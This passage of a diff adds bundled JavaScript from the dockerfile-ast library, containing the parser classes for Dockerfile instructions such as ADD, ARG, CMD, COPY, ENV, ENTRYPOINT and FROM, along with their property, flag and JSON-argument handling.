+                      secondMatch = true;
+                    } else {
+                      firstMatch = true;
+                    }
+                    break;
+                  default:
+                    startIndex = i;
+                    break nameSearchLoop;
+                }
+              }
+              let nameStart = this.document.positionAt(this.document.offsetAt(range3.start) + startIndex);
+              if (index === -1) {
+                this.flags.push(new flag_1.Flag(this.document, range3, value.substring(2), vscode_languageserver_types_1.Range.create(nameStart, range3.end), null, null));
+              } else if (index === value.length - 1) {
+                let nameEnd = this.document.positionAt(this.document.offsetAt(range3.start) + index);
+                this.flags.push(new flag_1.Flag(this.document, range3, value.substring(2, index), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), "", vscode_languageserver_types_1.Range.create(range3.end, range3.end)));
+              } else {
+                let nameEnd = this.document.positionAt(this.document.offsetAt(range3.start) + index);
+                this.flags.push(new flag_1.Flag(this.document, range3, value.substring(2, nameIndex), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), value.substring(nameIndex + 1), vscode_languageserver_types_1.Range.create(this.document.positionAt(this.document.offsetAt(range3.start) + index + 1), range3.end)));
+              }
+            }
+          }
+        }
+        return this.flags;
+      }
+      getArguments() {
+        const args = super.getArguments();
+        const flags = this.getFlags();
+        if (flags.length === 0) {
+          return args;
+        }
+        for (let i = 0; i < flags.length; i++) {
+          args.shift();
+        }
+        return args;
+      }
+    };
+    exports.ModifiableInstruction = ModifiableInstruction;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/jsonInstruction.js
+var require_jsonInstruction = __commonJS({
+  "node_modules/dockerfile-ast/lib/jsonInstruction.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.JSONInstruction = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var argument_1 = require_argument();
+    var jsonArgument_1 = require_jsonArgument();
+    var modifiableInstruction_1 = require_modifiableInstruction();
+    var JSONInstruction = class extends modifiableInstruction_1.ModifiableInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+        this.openingBracket = null;
+        this.closingBracket = null;
+        this.jsonStrings = [];
+        const argsContent = this.getRawArgumentsContent();
+        if (argsContent === null) {
+          return;
+        }
+        const args = this.getArguments();
+        if (args.length === 1 && args[0].getValue() === "[]") {
+          let argRange = args[0].getRange();
+          this.openingBracket = new argument_1.Argument("[", vscode_languageserver_types_1.Range.create(argRange.start.line, argRange.start.character, argRange.start.line, argRange.start.character + 1));
+          this.closingBracket = new argument_1.Argument("]", vscode_languageserver_types_1.Range.create(argRange.start.line, argRange.start.character + 1, argRange.end.line, argRange.end.character));
+          return;
+        } else if (args.length === 2 && args[0].getValue() === "[" && args[1].getValue() === "]") {
+          this.openingBracket = args[0];
+          this.closingBracket = args[1];
+          return;
+        }
+        const argsOffset = document.offsetAt(this.getArgumentsRange().start);
+        let start = -1;
+        let last = "";
+        let quoted = false;
+        let escapedArg = "";
+        argsCheck: for (let i = 0; i < argsContent.length; i++) {
+          let char = argsContent.charAt(i);
+          switch (char) {
+            case "[":
+              if (last === "") {
+                this.openingBracket = new argument_1.Argument("[", vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + i), document.positionAt(argsOffset + i + 1)));
+                last = "[";
+              } else if (quoted) {
+                escapedArg = escapedArg + char;
+              } else {
+                break argsCheck;
+              }
+              break;
+            case '"':
+              if (last === "[" || last === ",") {
+                start = i;
+                quoted = true;
+                last = '"';
+                escapedArg = escapedArg + char;
+                continue;
+              } else if (last === '"') {
+                if (quoted) {
+                  escapedArg = escapedArg + char;
+                  quoted = false;
+                  this.jsonStrings.push(new jsonArgument_1.JSONArgument(escapedArg, vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + start), document.positionAt(argsOffset + i + 1)), vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + start + 1), document.positionAt(argsOffset + i))));
+                  escapedArg = "";
+                } else {
+                  break argsCheck;
+                }
+              } else {
+                break argsCheck;
+              }
+              break;
+            case ",":
+              if (quoted) {
+                escapedArg = escapedArg + char;
+              } else {
+                if (last === '"') {
+                  last = ",";
+                } else {
+                  break argsCheck;
+                }
+              }
+              break;
+            case "]":
+              if (quoted) {
+                escapedArg = escapedArg + char;
+              } else if (last !== "") {
+                this.closingBracket = new argument_1.Argument("]", vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + i), document.positionAt(argsOffset + i + 1)));
+                break argsCheck;
+              }
+              break;
+            case " ":
+            case "	":
+              break;
+            case "\\":
+              if (quoted) {
+                switch (argsContent.charAt(i + 1)) {
+                  case '"':
+                  case "\\":
+                    escapedArg = escapedArg + argsContent.charAt(i + 1);
+                    i++;
+                    continue;
+                  case " ":
+                  case "	":
+                    escapeCheck: for (let j = i + 2; j < argsContent.length; j++) {
+                      switch (argsContent.charAt(j)) {
+                        case "\r":
+                          j++;
+                        case "\n":
+                          i = j;
+                          continue argsCheck;
+                        case " ":
+                        case "	":
+                          break;
+                        default:
+                          break escapeCheck;
+                      }
+                    }
+                    break;
+                  case "\r":
+                    i++;
+                  default:
+                    i++;
+                    continue;
+                }
+              } else {
+                escapeCheck: for (let j = i + 1; j < argsContent.length; j++) {
+                  switch (argsContent.charAt(j)) {
+                    case "\r":
+                      j++;
+                    case "\n":
+                      i = j;
+                      continue argsCheck;
+                    case " ":
+                    case "	":
+                      break;
+                    default:
+                      break escapeCheck;
+                  }
+                }
+              }
+              break argsCheck;
+            default:
+              if (!quoted) {
+                break argsCheck;
+              }
+              escapedArg = escapedArg + char;
+              break;
+          }
+        }
+      }
+      stopSearchingForFlags(_value) {
+        return true;
+      }
+      getOpeningBracket() {
+        return this.openingBracket;
+      }
+      getJSONStrings() {
+        return this.jsonStrings;
+      }
+      getClosingBracket() {
+        return this.closingBracket;
+      }
+    };
+    exports.JSONInstruction = JSONInstruction;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/add.js
+var require_add = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/add.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Add = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Add = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+      }
+    };
+    exports.Add = Add;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/property.js
+var require_property = __commonJS({
+  "node_modules/dockerfile-ast/lib/property.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Property = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var util_1 = require_util9();
+    var Property = class _Property {
+      constructor(document, escapeChar, arg, arg2) {
+        this.assignmentOperatorRange = null;
+        this.assignmentOperator = null;
+        this.valueRange = null;
+        this.value = null;
+        this.document = document;
+        this.escapeChar = escapeChar;
+        this.nameRange = _Property.getNameRange(document, arg);
+        let value = document.getText().substring(document.offsetAt(this.nameRange.start), document.offsetAt(this.nameRange.end));
+        this.name = _Property.getValue(value, escapeChar);
+        if (arg2) {
+          this.valueRange = arg2.getRange();
+          value = document.getText().substring(document.offsetAt(this.valueRange.start), document.offsetAt(this.valueRange.end));
+          this.value = _Property.getValue(value, escapeChar);
+          this.range = vscode_languageserver_types_1.Range.create(this.nameRange.start, this.valueRange.end);
+        } else {
+          let argRange = arg.getRange();
+          if (this.nameRange.start.line === argRange.start.line && this.nameRange.start.character === argRange.start.character && this.nameRange.end.line === argRange.end.line && this.nameRange.end.character === argRange.end.character) {
+          } else {
+            this.valueRange = _Property.getValueRange(document, arg);
+            value = document.getText().substring(document.offsetAt(this.valueRange.start), document.offsetAt(this.valueRange.end));
+            this.value = _Property.getValue(value, escapeChar);
+            this.assignmentOperatorRange = vscode_languageserver_types_1.Range.create(this.nameRange.end, this.valueRange.start);
+            this.assignmentOperator = "=";
+          }
+          this.range = argRange;
+        }
+      }
+      getRange() {
+        return this.range;
+      }
+      getName() {
+        return this.name;
+      }
+      getNameRange() {
+        return this.nameRange;
+      }
+      getValue() {
+        return this.value;
+      }
+      getValueRange() {
+        return this.valueRange;
+      }
+      /**
+       * Retrieves the operator used for delimiting between the name and
+       * value of this property. This will either be the "=" character
+       * or null if a character was not used or if this property has no
+       * value defined.
+       */
+      getAssignmentOperator() {
+        return this.assignmentOperator;
+      }
+      getAssignmentOperatorRange() {
+        return this.assignmentOperatorRange;
+      }
+      /**
+       * Returns the value of this property including any enclosing
+       * single or double quotes and relevant escape characters.
+       * Escaped newlines and its associated contiguous whitespace
+       * characters however will not be returned as they are deemed to
+       * be uninteresting to clients trying to return a Dockerfile.
+       *
+       * @return the unescaped value of this property or null if this
+       *         property has no associated value
+       */
+      getUnescapedValue() {
+        if (this.valueRange === null) {
+          return null;
+        }
+        let escaped = false;
+        let rawValue = "";
+        let value = this.document.getText().substring(this.document.offsetAt(this.valueRange.start), this.document.offsetAt(this.valueRange.end));
+        rawLoop: for (let i = 0; i < value.length; i++) {
+          let char = value.charAt(i);
+          switch (char) {
+            case this.escapeChar:
+              for (let j = i + 1; j < value.length; j++) {
+                switch (value.charAt(j)) {
+                  case "\r":
+                    j++;
+                  case "\n":
+                    escaped = true;
+                    i = j;
+                    continue rawLoop;
+                  case " ":
+                  case "	":
+                    break;
+                  default:
+                    rawValue = rawValue + char;
+                    continue rawLoop;
+                }
+              }
+              rawValue = rawValue + char;
+              break;
+            case "\r":
+            case "\n":
+              break;
+            case " ":
+            case "	":
+              if (!escaped) {
+                rawValue = rawValue + char;
+              }
+              break;
+            case "#":
+              if (escaped) {
+                for (let j = i + 1; j < value.length; j++) {
+                  switch (value.charAt(j)) {
+                    case "\r":
+                      j++;
+                    case "\n":
+                      i = j;
+                      continue rawLoop;
+                  }
+                }
+              } else {
+                rawValue = rawValue + char;
+              }
+              break;
+            default:
+              rawValue = rawValue + char;
+              escaped = false;
+              break;
+          }
+        }
+        return rawValue;
+      }
+      static getNameRange(document, arg) {
+        let value = arg.getValue();
+        let index = value.indexOf("=");
+        if (index !== -1) {
+          let initial = value.charAt(0);
+          let before = value.charAt(index - 1);
+          if (initial === '"' && before === '"' || initial === "'" && before === "'" || initial !== '"' && initial !== "'") {
+            return vscode_languageserver_types_1.Range.create(arg.getRange().start, document.positionAt(document.offsetAt(arg.getRange().start) + index));
+          }
+        }
+        return arg.getRange();
+      }
+      static getValueRange(document, arg) {
+        return vscode_languageserver_types_1.Range.create(document.positionAt(document.offsetAt(arg.getRange().start) + arg.getValue().indexOf("=") + 1), document.positionAt(document.offsetAt(arg.getRange().end)));
+      }
+      /**
+       * Returns the actual value of this key-value pair. The value will
+       * have its escape characters removed if applicable. If the value
+       * spans multiple lines and there are comments nested within the
+       * lines, they too will be removed.
+       *
+       * @return the value that this key-value pair will actually be, may
+       *         be null if no value is defined, may be the empty string
+       *         if the value only consists of whitespace
+       */
+      static getValue(value, escapeChar) {
+        let escaped = false;
+        const skip = util_1.Util.findLeadingNonWhitespace(value, escapeChar);
+        if (skip !== 0 && value.charAt(skip) === "#") {
+          escaped = true;
+        }
+        value = value.substring(skip);
+        let first = value.charAt(0);
+        let last = value.charAt(value.length - 1);
+        let literal2 = first === "'" || first === '"';
+        let inSingle = first === "'" && last === "'";
+        let inDouble = false;
+        if (first === '"') {
+          for (let i = 1; i < value.length; i++) {
+            if (value.charAt(i) === escapeChar) {
+              i++;
+            } else if (value.charAt(i) === '"' && i === value.length - 1) {
+              inDouble = true;
+            }
+          }
+        }
+        if (inSingle || inDouble) {
+          value = value.substring(1, value.length - 1);
+        }
+        let commentCheck = -1;
+        let escapedValue = "";
+        let start = 0;
+        parseValue: for (let i = 0; i < value.length; i++) {
+          let char = value.charAt(i);
+          switch (char) {
+            case escapeChar:
+              if (i + 1 === value.length) {
+                escapedValue = escapedValue + escapeChar;
+                break parseValue;
+              }
+              char = value.charAt(i + 1);
+              if (char === " " || char === "	") {
+                whitespaceCheck: for (let j = i + 2; j < value.length; j++) {
+                  let char2 = value.charAt(j);
+                  switch (char2) {
+                    case " ":
+                    case "	":
+                      break;
+                    case "\r":
+                      j++;
+                    case "\n":
+                      escaped = true;
+                      i = j;
+                      continue parseValue;
+                    default:
+                      if (!inDouble && !inSingle && !literal2) {
+                        if (char2 === escapeChar) {
+                          escapedValue = escapedValue + char;
+                          i = i + 1;
+                        } else {
+                          escapedValue = escapedValue + char + char2;
+                          i = j;
+                        }
+                        continue parseValue;
+                      }
+                      break whitespaceCheck;
+                  }
+                }
+              }
+              if (inDouble) {
+                if (char === "\r") {
+                  escaped = true;
+                  i = i + 2;
+                } else if (char === "\n") {
+                  escaped = true;
+                  i++;
+                } else if (char !== '"') {
+                  if (char === escapeChar) {
+                    i++;
+                  }
+                  escapedValue = escapedValue + escapeChar;
+                }
+                continue parseValue;
+              } else if (inSingle || literal2) {
+                if (char === "\r") {
+                  escaped = true;
+                  i = i + 2;
+                } else if (char === "\n") {
+                  escaped = true;
+                  i++;
+                } else {
+                  escapedValue = escapedValue + escapeChar;
+                }
+                continue parseValue;
+              } else if (char === escapeChar) {
+                escapedValue = escapedValue + escapeChar;
+                i++;
+              } else if (char === "\r") {
+                escaped = true;
+                i = i + 2;
+              } else if (char === "\n") {
+                escaped = true;
+                i++;
+                start = i;
+              } else {
+                escapedValue = escapedValue + char;
+                i++;
+              }
+              break;
+            case " ":
+            case "	":
+              if (escaped && commentCheck === -1) {
+                commentCheck = i;
+              }
+              escapedValue = escapedValue + char;
+              break;
+            case "\r":
+              i++;
+            case "\n":
+              if (escaped && commentCheck !== -1) {
+                escapedValue = escapedValue.substring(0, escapedValue.length - (i - commentCheck - 1));
+                commentCheck = -1;
+              }
+              break;
+            case "#":
+              if (escaped) {
+                if (commentCheck !== -1) {
+                  escapedValue = escapedValue.substring(0, escapedValue.length - (i - commentCheck));
+                  commentCheck = -1;
+                }
+                newlineCheck: for (let j = i + 1; j < value.length; j++) {
+                  switch (value.charAt(j)) {
+                    case "\r":
+                      j++;
+                    case "\n":
+                      i = j;
+                      break newlineCheck;
+                  }
+                }
+                continue parseValue;
+              }
+            default:
+              if (escaped) {
+                escaped = false;
+                commentCheck = -1;
+              }
+              escapedValue = escapedValue + char;
+              break;
+          }
+        }
+        return escapedValue;
+      }
+    };
+    exports.Property = Property;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/propertyInstruction.js
+var require_propertyInstruction = __commonJS({
+  "node_modules/dockerfile-ast/lib/propertyInstruction.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.PropertyInstruction = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var instruction_1 = require_instruction();
+    var property_1 = require_property();
+    var argument_1 = require_argument();
+    var util_1 = require_util9();
+    var PropertyInstruction = class extends instruction_1.Instruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+        this.properties = void 0;
+      }
+      getProperties() {
+        if (this.properties === void 0) {
+          let args = this.getPropertyArguments();
+          if (args.length === 0) {
+            this.properties = [];
+          } else if (args.length === 1) {
+            this.properties = [new property_1.Property(this.document, this.escapeChar, args[0])];
+          } else if (args.length === 2) {
+            if (args[0].getValue().indexOf("=") === -1) {
+              this.properties = [new property_1.Property(this.document, this.escapeChar, args[0], args[1])];
+            } else {
+              this.properties = [
+                new property_1.Property(this.document, this.escapeChar, args[0]),
+                new property_1.Property(this.document, this.escapeChar, args[1])
+              ];
+            }
+          } else if (args[0].getValue().indexOf("=") === -1) {
+            let text = this.document.getText();
+            let start = args[1].getRange().start;
+            let end = args[args.length - 1].getRange().end;
+            text = text.substring(this.document.offsetAt(start), this.document.offsetAt(end));
+            this.properties = [new property_1.Property(this.document, this.escapeChar, args[0], new argument_1.Argument(text, vscode_languageserver_types_1.Range.create(args[1].getRange().start, args[args.length - 1].getRange().end)))];
+          } else {
+            this.properties = [];
+            for (let i = 0; i < args.length; i++) {
+              this.properties.push(new property_1.Property(this.document, this.escapeChar, args[i]));
+            }
+          }
+        }
+        return this.properties;
+      }
+      /**
+       * Goes from the back of the string and returns the first
+       * non-whitespace character that is found. If an escape character
+       * is found with newline characters, the escape character will
+       * not be considered a non-whitespace character and its index in
+       * the string will not be returned.
+       *
+       * @param content the string to search through
+       * @return the index in the string for the first non-whitespace
+       *         character when searching from the end of the string
+       */
+      findTrailingNonWhitespace(content) {
+        let index = content.length;
+        whitespaceCheck: for (let i = content.length - 1; i >= 0; i--) {
+          switch (content.charAt(i)) {
+            case " ":
+            case "	":
+              continue;
+            case "\n":
+              if (content.charAt(i - 1) === "\r") {
+                i = i - 1;
+              }
+            case "\r":
+              newlineCheck: for (let j = i - 1; j >= 0; j--) {
+                switch (content.charAt(j)) {
+                  case " ":
+                  case "	":
+                  case "\r":
+                  case "\n":
+                  case this.escapeChar:
+                    continue;
+                  default:
+                    index = j;
+                    break newlineCheck;
+                }
+              }
+              break whitespaceCheck;
+            default:
+              index = i;
+              break whitespaceCheck;
+          }
+        }
+        return index;
+      }
+      getPropertyArguments() {
+        const args = [];
+        let range3 = this.getInstructionRange();
+        let instructionNameEndOffset = this.document.offsetAt(range3.end);
+        let extra = instructionNameEndOffset - this.document.offsetAt(range3.start);
+        let content = this.getTextContent();
+        let fullArgs = content.substring(extra);
+        let start = util_1.Util.findLeadingNonWhitespace(fullArgs, this.escapeChar);
+        if (start === -1) {
+          return [];
+        }
+        const startPosition = this.document.positionAt(instructionNameEndOffset + start);
+        let escaped = range3.start.line !== startPosition.line;
+        let endingEscape = false;
+        let mark = -1;
+        let end = this.findTrailingNonWhitespace(fullArgs);
+        content = fullArgs.substring(start, end + 1);
+        let argStart = escaped ? -1 : 0;
+        let spaced = false;
+        argumentLoop: for (let i = 0; i < content.length; i++) {
+          let char = content.charAt(i);
+          switch (char) {
+            case this.escapeChar:
+              if (i + 1 === content.length) {
+                endingEscape = true;
+                break argumentLoop;
+              }
+              if (!escaped) {
+                mark = i;
+              }
+              switch (content.charAt(i + 1)) {
+                case " ":
+                case "	":
+                  if (!util_1.Util.isWhitespace(content.charAt(i + 2))) {
+                    i = i + 1;
+                    continue argumentLoop;
+                  }
+                  whitespaceCheck: for (let j = i + 2; j < content.length; j++) {
+                    switch (content.charAt(j)) {
+                      case "\r":
+                        j++;
+                      case "\n":
+                        escaped = true;
+                        i = j;
+                        continue argumentLoop;
+                      case " ":
+                      case "	":
+                        break;
+                      default:
+                        args.push(new argument_1.Argument(content.substring(argStart, i), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + i + 2))));
+                        argStart = j;
+                        break whitespaceCheck;
+                    }
+                  }
+                  i = argStart - 1;
+                  continue argumentLoop;
+                case "\r":
+                  i++;
+                case "\n":
+                  escaped = true;
+                  i = i + 1;
+                  continue argumentLoop;
+                case this.escapeChar:
+                  if (argStart === -1) {
+                    argStart = i;
+                  }
+                  i = i + 1;
+                  continue argumentLoop;
+                default:
+                  if (argStart === -1) {
+                    argStart = i;
+                  }
+                  continue argumentLoop;
+              }
+            case "'":
+            case '"':
+              if (spaced) {
+                this.createSpacedArgument(argStart, args, content, mark, instructionNameEndOffset, start);
+                argStart = i;
+                spaced = false;
+              }
+              if (argStart === -1) {
+                argStart = i;
+              }
+              for (let j = i + 1; j < content.length; j++) {
+                switch (content.charAt(j)) {
+                  case char:
+                    if (content.charAt(j + 1) !== " " && content.charAt(j + 1) !== "") {
+                      i = j;
+                      continue argumentLoop;
+                    }
+                    args.push(new argument_1.Argument(content.substring(argStart, j + 1), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + j + 1))));
+                    i = j;
+                    argStart = -1;
+                    continue argumentLoop;
+                  case this.escapeChar:
+                    j++;
+                    break;
+                }
+              }
+              break argumentLoop;
+            case " ":
+            case "	":
+              if (escaped) {
+                if (argStart !== -1) {
+                  spaced = true;
+                }
+              } else if (argStart !== -1) {
+                args.push(new argument_1.Argument(content.substring(argStart, i), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + i))));
+                argStart = -1;
+              }
+              break;
+            case "\r":
+              i++;
+            case "\n":
+              spaced = false;
+              break;
+            case "#":
+              if (escaped) {
+                for (let j = i + 1; j < content.length; j++) {
+                  switch (content.charAt(j)) {
+                    case "\r":
+                      j++;
+                    case "\n":
+                      i = j;
+                      spaced = false;
+                      continue argumentLoop;
+                  }
+                }
+                if (argStart !== -1) {
+                  let value = content.substring(argStart, mark);
+                  args.push(new argument_1.Argument(value, vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + mark))));
+                  argStart = -1;
+                }
+                break argumentLoop;
+              } else if (argStart === -1) {
+                argStart = i;
+              }
+              break;
+            default:
+              if (spaced) {
+                this.createSpacedArgument(argStart, args, content, mark, instructionNameEndOffset, start);
+                argStart = i;
+                spaced = false;
+              }
+              escaped = false;
+              if (argStart === -1) {
+                argStart = i;
+              }
+              if (char === "$" && content.charAt(i + 1) === "{") {
+                let singleQuotes = false;
+                let doubleQuotes = false;
+                let escaped2 = false;
+                for (let j = i + 1; j < content.length; j++) {
+                  switch (content.charAt(j)) {
+                    case this.escapeChar:
+                      escaped2 = true;
+                      break;
+                    case "\r":
+                    case "\n":
+                      break;
+                    case "'":
+                      singleQuotes = !singleQuotes;
+                      escaped2 = false;
+                      break;
+                    case '"':
+                      doubleQuotes = !doubleQuotes;
+                      escaped2 = false;
+                      break;
+                    case " ":
+                    case "	":
+                      if (escaped2 || singleQuotes || doubleQuotes) {
+                        break;
+                      }
+                      i = j - 1;
+                      continue argumentLoop;
+                    case "}":
+                      i = j;
+                      continue argumentLoop;
+                    default:
+                      escaped2 = false;
+                      break;
+                  }
+                }
+                break argumentLoop;
+              }
+              break;
+          }
+        }
+        if (argStart !== -1 && argStart !== content.length) {
+          let end2 = endingEscape ? content.length - 1 : content.length;
+          let value = content.substring(argStart, end2);
+          args.push(new argument_1.Argument(value, vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + end2))));
+        }
+        return args;
+      }
+      createSpacedArgument(argStart, args, content, mark, instructionNameEndOffset, start) {
+        if (argStart !== -1) {
+          args.push(new argument_1.Argument(content.substring(argStart, mark), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + mark))));
+        }
+      }
+    };
+    exports.PropertyInstruction = PropertyInstruction;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/arg.js
+var require_arg = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/arg.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Arg = void 0;
+    var property_1 = require_property();
+    var propertyInstruction_1 = require_propertyInstruction();
+    var Arg = class extends propertyInstruction_1.PropertyInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+        this.property = null;
+        const args = this.getPropertyArguments();
+        if (args.length === 1) {
+          this.property = new property_1.Property(this.document, this.escapeChar, args[0]);
+        } else {
+          this.property = null;
+        }
+      }
+      /**
+       * Returns the variable defined by this ARG. This may be null if
+       * this ARG instruction is malformed and has no variable
+       * declaration.
+       */
+      getProperty() {
+        return this.property;
+      }
+    };
+    exports.Arg = Arg;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/cmd.js
+var require_cmd = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/cmd.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Cmd = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Cmd = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+    };
+    exports.Cmd = Cmd;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/copy.js
+var require_copy = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/copy.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Copy = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Copy = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+      }
+      getFromFlag() {
+        let flags = super.getFlags();
+        return flags.length === 1 && flags[0].getName() === "from" ? flags[0] : null;
+      }
+      /**
+       * Returns there here-documents that are defined in this RUN
+       * instruction.
+       *
+       * This API is experimental and subject to change.
+       */
+      getHeredocs() {
+        return super.getHeredocs();
+      }
+    };
+    exports.Copy = Copy;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/env.js
+var require_env = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/env.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Env = void 0;
+    var propertyInstruction_1 = require_propertyInstruction();
+    var Env = class extends propertyInstruction_1.PropertyInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      getProperties() {
+        return super.getProperties();
+      }
+    };
+    exports.Env = Env;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/entrypoint.js
+var require_entrypoint = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/entrypoint.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Entrypoint = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Entrypoint = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+    };
+    exports.Entrypoint = Entrypoint;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/from.js
+var require_from = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/from.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.From = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var modifiableInstruction_1 = require_modifiableInstruction();
+    var From = class extends modifiableInstruction_1.ModifiableInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+      }
+      getImage() {
+        const args = this.getArguments();
+        return args.length > 0 ? args[0].getValue() : null;
+      }
+      /**
+       * Returns the name of the image that will be used as the base image.
+       *
+       * @return the base image's name, or null if unspecified
+       */
+      getImageName() {
+        const imageName = this.getRangeContent(this.getImageNameRange());
+        if (imageName === null) {
+          return null;
+        }
+        let commented = false;
+        let escaped = false;
+        let name = "";
+        for (let i = 0; i < imageName.length; i++) {
+          const ch = imageName.charAt(i);
+          switch (ch) {
+            case this.escapeChar:
+              escaped = true;
+              break;
+            case "\r":
+              continue;
+            case "\n":
+              commented = false;
+              break;
+            case " ":
+            case "	":
+              break;
+            case "#":
+              if (escaped) {
+                commented = true;
+              } else {
+                name = name + ch;
+                escaped = false;
+              }
+              break;
+            default:
+              if (!commented) {
+                name = name + ch;
+                escaped = false;
+              }
+              break;
+          }
+        }
+        return name;
+      }
+      /**
+       * Returns the range that covers the name of the image used by
+       * this instruction.
+       *
+       * @return the range of the name of this instruction's argument,
+       *         or null if no image has been specified
+       */
+      getImageNameRange() {
+        let range3 = this.getImageRange();
+        if (range3) {
+          let registryRange = this.getRegistryRange();
+          if (registryRange) {
+            range3.start = this.document.positionAt(this.document.offsetAt(registryRange.end) + 1);
+          }
+          let tagRange = this.getImageTagRange();
+          let digestRange = this.getImageDigestRange();
+          if (tagRange === null) {
+            if (digestRange !== null) {
+              range3.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
+            }
+          } else {
+            range3.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
+          }
+          return range3;
+        }
+        return null;
+      }
+      /**
+       * Returns the range that covers the image argument of this
+       * instruction. This includes the tag or digest of the image if
+       * it has been specified by the instruction.
+       *
+       * @return the range of the image argument, or null if no image
+       *         has been specified
+       */
+      getImageRange() {
+        let args = this.getArguments();
+        return args.length !== 0 ? args[0].getRange() : null;
+      }
+      getImageTag() {
+        return this.getRangeContent(this.getImageTagRange());
+      }
+      /**
+       * Returns the range in the document that the tag of the base
+       * image encompasses.
+       *
+       * @return the base image's tag's range in the document, or null
+       *         if no tag has been specified
+       */
+      getImageTagRange() {
+        const range3 = this.getImageRange();
+        if (range3) {
+          const rangeStartOffset = this.document.offsetAt(range3.start);
+          const content = this.getRangeContent(range3);
+          const atIndex = this.indexOf(rangeStartOffset, content, "@");
+          const slashIndex = content.indexOf("/");
+          if (atIndex === -1) {
+            const colonIndex = this.lastIndexOf(rangeStartOffset, content, ":");
+            if (colonIndex > slashIndex) {
